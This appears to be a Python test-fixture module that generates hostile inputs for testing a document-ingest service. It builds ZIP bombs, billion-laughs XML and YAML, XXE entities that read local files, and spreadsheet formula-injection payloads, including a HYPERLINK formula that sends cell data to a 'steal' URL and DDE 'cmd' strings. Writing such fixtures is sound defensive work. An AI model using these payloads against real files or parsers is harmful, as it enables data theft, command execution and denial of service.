"""Hostile and malformed raw files for tests, built at test time and small on disk.

Large cases stay small: a ZIP bomb is a few MB that declares a GiB, an oversized file is
sparse. The generators that take a second or two are cached for the test session. Every
name here is made up; e-mails are @example.org, phone numbers from Ofcom's drama ranges.
"""

from __future__ import annotations

import functools
import io
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

from tests.ingest_fixtures import csv_bytes, docx_bytes, xlsx_bytes

MiB = 2**20
GiB = 2**30
SECRET_MARKER = "OUTSIDE-THE-SITE-7f3a"
"""Written into files outside a site folder: it must never reach anything ingest returns."""

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
FORMULAS = (
    '=HYPERLINK("https://example.org/steal?d="&A1,"Open the minutes")',
    "=cmd|' /C calc'!A0",
    "+44 7700 900123 is the number they gave out",
    "-2+3 more sessions would help",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)

# Names of many scripts: right-to-left, mixed scripts, emoji, a letter written with a
# combining character, and one with an invisible direction mark pasted inside it.
RTL_NAME = "محمد الأحمد"
MIXED_NAME = "Zoë Ægir-Łukasz"
EMOJI_NAME = "Kwame 🌈 Boateng"
COMBINING_NAME = "Rene\u0301e Dvor\u030cak"
MARKED_NAME = "Yusuf\u200f Demirtaş"
HOSTILE_NAMES = (RTL_NAME, MIXED_NAME, EMOJI_NAME, COMBINING_NAME, MARKED_NAME)


def truncated(data: bytes) -> bytes:
    """The first half of a file, as a broken upload or a full disk leaves it."""
    return data[: len(data) // 2]


# ---------------------------------------------------------------------------------------
# Office files (ZIP archives)


def _rewrite(
    data: bytes,
    replace: Mapping[str, bytes] = {},
    stream: Mapping[str, Iterator[bytes]] = {},
    extra: Mapping[str, bytes] = {},
) -> bytes:
    """A copy of an Office file with parts replaced, streamed in (for huge ones) or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in source.infolist():
            if info.filename in stream:
                with archive.open(info.filename, "w", force_zip64=True) as part:
                    for chunk in stream[info.filename]:
                        part.write(chunk)
            else:
                archive.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in extra.items():
            archive.writestr(name, content)
        for name, chunks in stream.items():
            if name not in source.namelist():
                with archive.open(name, "w", force_zip64=True) as part:
                    for chunk in chunks:
                        part.write(chunk)
    return out.getvalue()


def _repeat(head: bytes, unit: bytes, size: int, tail: bytes = b"") -> Iterator[bytes]:
    yield head
    block = unit * max(1, MiB // len(unit))
    for _ in range(size // len(block)):
        yield block
    yield tail


def small_docx() -> bytes:
    return docx_bytes([("h1", "Welcome"), ("p", "AO: Hello, and welcome back.")])


def _document_xml(data: bytes) -> tuple[bytes, bytes]:
    """The document.xml of a Word file, split around its body's content."""
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    head, rest = xml.split(b"<w:body>", 1)
    return head + b"<w:body>", b"<w:sectPr" + rest.split(b"<w:sectPr", 1)[1]


@functools.cache
def docx_zip_bomb() -> bytes:
    """A Word file of about 3 MB whose document.xml inflates to 1 GiB of paragraphs."""
    base = small_docx()
    head, tail = _document_xml(base)
    paragraph = b"<w:p><w:r><w:t>lol</w:t></w:r></w:p>"
    return _rewrite(base, stream={"word/document.xml": _repeat(head, paragraph, GiB, tail)})


def _with_image(base: bytes, images: Mapping[str, int]) -> bytes:
    """`base` with PNG images of the given sizes in word/media/, each linked from the text."""
    rels_name = "word/_rels/document.xml.rels"
    source = zipfile.ZipFile(io.BytesIO(base))
    rels = source.read(rels_name).decode()
    types = source.read("[Content_Types].xml").decode()
    links = "".join(
        f'<Relationship Id="rIdHostile{n}" Target="media/{name}" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/image"/>'
        for n, name in enumerate(images)
    )
    rels = rels.replace("</Relationships>", links + "</Relationships>")
    if 'Extension="png"' not in types:
        types = types.replace(
            "</Types>", '<Default Extension="png" ContentType="image/png"/></Types>'
        )
    return _rewrite(
        base,
        replace={rels_name: rels.encode(), "[Content_Types].xml": types.encode()},
        stream={
            f"word/media/{name}": _repeat(PNG_SIGNATURE, b"\x00" * 4096, size)
            for name, size in images.items()
        },
    )


@functools.cache
def docx_huge_image() -> bytes:
    """Minutes with one embedded 'photo' of 300 MiB (stored in 300 kB)."""
    return _with_image(small_docx(), {"flipchart.png": 300 * MiB})


@functools.cache
def docx_many_images() -> bytes:
    """Minutes with six photos of 50 MiB: no part too big, all of them together are."""
    return _with_image(small_docx(), {f"photo{n}.png": 50 * MiB for n in range(6)})


def docx_with_dtd(entity_declarations: str, reference: str) -> bytes:
    """A Word file whose document.xml declares entities and uses one in a paragraph."""
    base = small_docx()
    xml = zipfile.ZipFile(io.BytesIO(base)).read("word/document.xml").decode()
    declaration, rest = xml.split("?>", 1)
    rest = rest.replace("Hello, and welcome back.", f"Hello {reference}")
    doctype = f"<!DOCTYPE w:document [{entity_declarations}]>"
    return _rewrite(base, replace={"word/document.xml": f"{declaration}?>{doctype}{rest}".encode()})


def billion_laughs_entities() -> str:
    """XML entities that expand to 10**9 'lol's."""
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    return "".join(levels)


def external_entity(path: Path) -> str:
    """An XML entity that would pull in a file of the machine (XXE)."""
    return f'<!ENTITY secret SYSTEM "{path.as_uri()}">'


SURVEY_HEADER = ["ID", "respondent_role", "access_ease", "what_would_help"]


def small_xlsx(rows: list[list[object]] | None = None) -> bytes:
    return xlsx_bytes([SURVEY_HEADER, *(rows or [[1, "Carer", "Agree", "More interpreters"]])])


@functools.cache
def xlsx_zip_bomb() -> bytes:
    """A workbook of about 3 MB whose first sheet inflates to 1 GiB of rows."""
    base = small_xlsx()
    xml = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    head, rest = xml.split(b"<sheetData>", 1)
    tail = b"</sheetData>" + rest.split(b"</sheetData>", 1)[1]
    row = b'<row><c t="inlineStr"><is><t>lol</t></is></c></row>'
    return _rewrite(
        base,
        stream={"xl/worksheets/sheet1.xml": _repeat(head + b"<sheetData>", row, GiB, tail)},
    )


@functools.cache
def xlsx_many_parts(parts: int = 20_000) -> bytes:
    """A workbook with 20,000 extra (tiny) parts."""
    return _rewrite(small_xlsx(), extra={f"customXml/item{n}.xml": b"<a/>" for n in range(parts)})


def xlsx_with_dtd(entity_declarations: str, reference: str) -> bytes:
    """A workbook whose sheet declares entities and uses one in a free-text answer."""
    base = small_xlsx()
    xml = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml").decode()
    xml = xml.replace("More interpreters", reference)
    doctype = f"<!DOCTYPE worksheet [{entity_declarations}]>"
    if xml.startswith("<?xml"):
        declaration, rest = xml.split("?>", 1)
        xml = f"{declaration}?>{doctype}{rest}"
    else:
        xml = doctype + xml
    return _rewrite(base, replace={"xl/worksheets/sheet1.xml": xml.encode()})


def xlsx_with_formulas() -> bytes:
    """A survey workbook whose free-text cells are formulas (no value cached, as openpyxl
    and many scripts write them)."""
    return small_xlsx(
        [[n, "Carer", "Agree", formula] for n, formula in enumerate(FORMULAS[:2], start=1)]
    )


# ---------------------------------------------------------------------------------------
# CSV and text


def png_bytes() -> bytes:
    """A binary file: what a photo saved as `answers.csv` looks like."""
    return PNG_SIGNATURE + bytes(range(256)) * 64


def csv_mixed_encodings() -> bytes:
    """Rows pasted together from a UTF-8 export and a Windows-1252 one."""
    return (
        b"ID,respondent_role,access_ease,what_would_help\n"
        + "1,Carer,Agree,Zoë said the café helped\n".encode()
        + "2,Carer,Agree,Renée said the café helped\n".encode("cp1252")
    )


def csv_with_nul() -> bytes:
    return b"ID,respondent_role,what_would_help\n1,Carer,fine\n2,Carer,bad\x00cell\n"


def csv_million_columns() -> bytes:
    return ",".join(f"q{n}" for n in range(1_000_000)).encode() + b"\n" + b"1" * 10 + b"\n"


def csv_row_of_million_columns() -> bytes:
    return csv_bytes([SURVEY_HEADER, [1, "Carer", "Agree", "Fine"]]) + b"," * 1_000_000 + b"\n"


def csv_with_cell(size: int) -> bytes:
    """Three responses, the second with a free-text answer of `size` characters."""
    return csv_bytes(
        [
            SURVEY_HEADER,
            [1, "Carer", "Agree", "More interpreters"],
            [2, "Carer", "Agree", "x" * size],
            [3, "Service user", "4", "Peer support"],
        ]
    )


def csv_unclosed_quote() -> bytes:
    return (
        b"ID,respondent_role,access_ease,what_would_help\n"
        b'1,Carer,Agree,"More interpreters\n'
        b"2,Carer,Agree,Peer support\n"
        b"3,Carer,Agree,Evening sessions\n"
    )


def csv_formulas() -> bytes:
    return csv_bytes(
        [SURVEY_HEADER]
        + [[n, "Carer", "Agree", formula] for n, formula in enumerate(FORMULAS, start=1)]
    )


def long_paragraph_minutes(size: int = 200_000) -> str:
    """Minutes whose second paragraph (label included) has `size` characters."""
    label = "Carer (TW): "
    body = ("The waiting list is still long. " * (size // 32 + 1))[: size - len(label) - 1] + "."
    return (
        f"# Review\n\nAO: Welcome back.\n\n{label}{body}\n\nAction: The trust funds interpreters.\n"
    )


# ---------------------------------------------------------------------------------------
# YAML


def billion_laughs(before: str = "", after: str = "") -> str:
    """Anchors and aliases that stand for 10**9 strings in a few hundred bytes."""
    lines = ["lol0: &lol0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"lol{n}: &lol{n} [{', '.join([f'*lol{n - 1}'] * 10)}]" for n in range(1, 10)]
    return before + "\n".join(lines) + "\n" + after


def deeply_nested(depth: int = 100_000) -> str:
    return "notes: " + "[" * depth + "]" * depth + "\n"


def sparse_file(path: Path, size: int) -> Path:
    """A file of `size` bytes that takes no room on disk."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as handle:
        handle.truncate(size)
    return path
